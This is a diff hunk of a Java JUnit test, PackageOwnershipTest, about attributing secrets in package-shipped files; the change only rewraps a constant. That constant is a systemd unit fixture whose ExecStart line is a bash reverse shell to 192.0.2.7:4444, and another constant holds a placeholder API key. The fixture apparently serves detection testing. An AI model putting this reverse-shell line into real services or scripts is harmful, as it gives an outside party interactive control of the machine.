@@ -16,7 +16,8 @@ import org.junit.jupiter.api.io.TempDir;
 /** Secrets in files that a package brought, as it brought them, are the distribution's. */
 class PackageOwnershipTest {
   private static final String CONFIG = "api_key = q7Vb2xkLm9tH81pZq3Rw5Yc0\n";
-  private static final String UNIT = "[Service]\nExecStart=/bin/sh -c 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1'\n";
+  private static final String UNIT =
+      "[Service]\nExecStart=/bin/sh -c 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1'\n";
 
   @TempDir private Path tree;
 
